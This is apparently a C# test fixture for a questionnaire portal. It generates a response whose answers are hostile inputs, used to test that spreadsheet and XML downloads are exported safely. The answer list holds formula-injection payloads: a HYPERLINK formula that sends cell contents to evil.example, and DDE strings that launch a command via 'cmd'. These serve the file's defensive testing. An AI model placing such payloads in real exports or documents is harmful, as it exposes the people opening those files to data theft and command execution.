using System.Text;
using MsqPortal.Parsing;

namespace MsqPortal.Web.Tests.Search;

/// <summary>A response whose answers attack the programs that open a download, and one that is longer than any cell.</summary>
internal static class HostileResponse
{
    public const string Country = "Fiji";

    public const string FileName = "fji-msq-2024.md";

    /// <summary>Starts of answers that a spreadsheet would take for formulas, or that XML cannot hold.</summary>
    public static readonly string[] Answers =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝1＋1 in full width",
        "quoted \"text\", with a comma; a semicolon and a 'sign'",
        "bell \u0007, escape \u001B and no character \uFFFE",
        "looks like an escape of a sheet: _x000D_ and _x0041_",
        "]]> <![CDATA[ &amp; <b>bold</b> 𝒳 😀",
        "A house of letters 🏛️ outside of the basic plane, and two spaces  at the end of  a word",
        "see <https://shop.example/?a=1&b=2&copy=3> for other signs of an address",
    ];

    /// <summary>Longer than two cells, so that one of its pairs of halves stands where a cell ends.</summary>
    public static readonly string LongAnswer =
        "=" + string.Concat(Enumerable.Range(0, 14_000).Select(i => i % 10 == 9 ? "😀. " : "word")) + " the end";

    public static string Of(QuestionnaireForm form)
    {
        var answers = new Queue<string>(Answers.Append(LongAnswer));
        var text = new StringBuilder($"{form.Title}\n\nCOUNTRY NAME*\n\n{Country}\n");
        foreach (var section in form.Sections)
        {
            text.Append($"\n{section.Code}. {section.Title}\n");
            foreach (var question in section.Questions)
            {
                text.Append($"\n{question.Number}. {question.Text}{(question.IsMandatory ? " *" : "")}\n");
                if (answers.TryDequeue(out var answer))
                    text.Append($"\n{answer}\n");
            }
        }

        return text.ToString();
    }
}
